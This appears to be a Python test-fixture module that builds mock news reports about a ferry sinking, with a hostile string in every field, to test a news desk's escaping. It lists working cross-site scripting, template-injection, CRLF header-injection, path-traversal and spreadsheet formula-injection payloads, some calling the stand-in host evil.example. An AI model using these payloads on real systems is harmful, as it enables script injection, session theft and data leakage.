"""Sixty hostile strings, and reports that carry one of them in every field that an article has."""

from pathlib import Path
from typing import Any

FLAG = "window.__hit=1"  # what each of them tries to have run

PAYLOADS: tuple[str, ...] = (
    # markup that runs by itself
    f"<script>{FLAG}</script>",
    f"</script><script>{FLAG}</script>",
    f"<ScRiPt\n>{FLAG}</sCrIpT >",
    f"<script src=//evil.example/x.js></script><script>{FLAG}//",
    f"<<script>{FLAG};//<</script>",
    f"<scr<script>ipt>{FLAG}</scr</script>ipt>",
    f"<script type=module>{FLAG}</script>",
    f"</title><script>{FLAG}</script>",
    f"</style><script>{FLAG}</script>",
    f"</textarea><script>{FLAG}</script>",
    f"--><script>{FLAG}</script><!--",
    f"]]><script>{FLAG}</script><![CDATA[",
    f"</template><script>{FLAG}</script>",
    f"</noscript><script>{FLAG}</script>",
    # events
    f"<img src=x onerror={FLAG}>",
    f"<img/src/onerror={FLAG}>",
    f'"><img src=x onerror="{FLAG}">',
    f"'><img src=x onerror='{FLAG}'>",
    f"<body onload={FLAG}>",
    f"<input autofocus onfocus={FLAG}>",
    f"<details open ontoggle={FLAG}>",
    f"<video><source onerror={FLAG}></video>",
    f"<marquee onstart={FLAG}>",
    f'" onmouseover="{FLAG}" x="',
    f"' onfocus='{FLAG}' autofocus tabindex=1 '",
    f"` onload={FLAG} `",
    f"x onpointerenter={FLAG} style=position:fixed;inset:0",
    f"<a href=# onclick={FLAG}>press</a>",
    # addresses
    f"javascript:{FLAG}",
    f"JaVaScRiPt:{FLAG}//",
    f"java\tscript:{FLAG}",
    f"\x01javascript:{FLAG}",
    f"javascript://%0a{FLAG}",
    f"data:text/html,<script>parent.{FLAG}</script>",
    f"<a href='javascript:{FLAG}'>read on</a>",
    f"<iframe srcdoc='<script>parent.{FLAG}</script>'></iframe>",
    f"<iframe src='javascript:parent.{FLAG}'></iframe>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    f"<object data='data:text/html,<script>{FLAG}</script>'></object>",
    f"<form action='javascript:{FLAG}'><button>send</button></form>",
    "<style>*{display:none}</style>",
    "<img src=http://evil.example/seen.png>",
    # drawings
    f"<svg onload={FLAG}>",
    f"<svg><script>{FLAG}</script></svg>",
    f"<svg><animate onbegin={FLAG} attributeName=x dur=1s>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={FLAG}>",
    # templates
    "{{ 7*7 }}{{ ''.__class__.__mro__ }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${7*7}#{7*7}<%= 7*7 %>{{constructor.constructor('" + FLAG + "')()}}",
    # characters and sizes
    "\u202egnihtemos\u202c \u2066hidden\u2069 \u200f\u200b\ufeff",
    "nul\x00<script>\x00" + FLAG + "</script>\x00",
    "\x1b[31mred\x1b[0m \x07\x08\x7f\x85\u2028\u2029",
    "\ud7ff\ufffe\U000e0041\u0300\u0301\u0302" * 40,
    "W" * 20_000,
    "</main></body></html>" * 20,
    # what a file, a table or a header could be talked into
    "Port Ellery\r\nSet-Cookie: rashomon=stolen\r\nX-Injected: yes\r\n\r\n<script>" + FLAG + "</script>",
    "../../../../etc/passwd%00.html",
    '=HYPERLINK("http://evil.example","2+5")\t@SUM(1+9)*cmd|\' /C calc\'!A0',
)

# Names of query parameters and form fields that pages of the desk read, or may come to read
FIELDS = (
    "q",
    "kind",
    "outlet",
    "from",
    "to",
    "place",
    "name",
    "page",
    "what",
    "on",
    "a",
    "claim",
    "layers",
    "mark",
    "why",
)

EVENTS = "Officials in Port Ellery said on Monday that at least 14 people were killed when the ferry Amaranth sank."


def article(number: int, payload: str) -> dict[str, Any]:
    """Return a report whose every field holds a payload, its text at each place that a finding takes words from."""
    return {
        "id": f"{number} {payload}",
        "outlet": f"Ellery Post {payload}" if number % 2 else payload,
        "title": payload if number % 3 else f"Ferry sinks {payload} off Port Ellery",
        "byline": payload,
        "url": payload if number % 2 else f"https://ellery-post.example/{number}/{payload}",
        "published": f"2031-03-04T{number % 24:02}:{number % 60:02}:00Z",
        "agency": payload,
        "language": "en",
        "section": payload,
        "text": f"{EVENTS}\n\n{payload}\n\n"
        f"“We lost everything, {payload} and nobody came,” said Mayor {payload} Brandt of Port Ellery.\n\n"
        f"Some {number + 3} {payload} houses near {payload} Harbour were flooded, said the {payload} Agency. "
        f"The captain, Ilse {payload} Marten, is held in custody.",
    }


def write_files(folder: Path) -> None:
    """Write files whose names are the payloads, as far as a file may be called so; none of them can be read."""
    for number, payload in enumerate(PAYLOADS):
        name = payload.replace("/", "").replace("\0", "")[:60]
        (folder / f"{number}{name}.json").write_bytes(b"[no json")
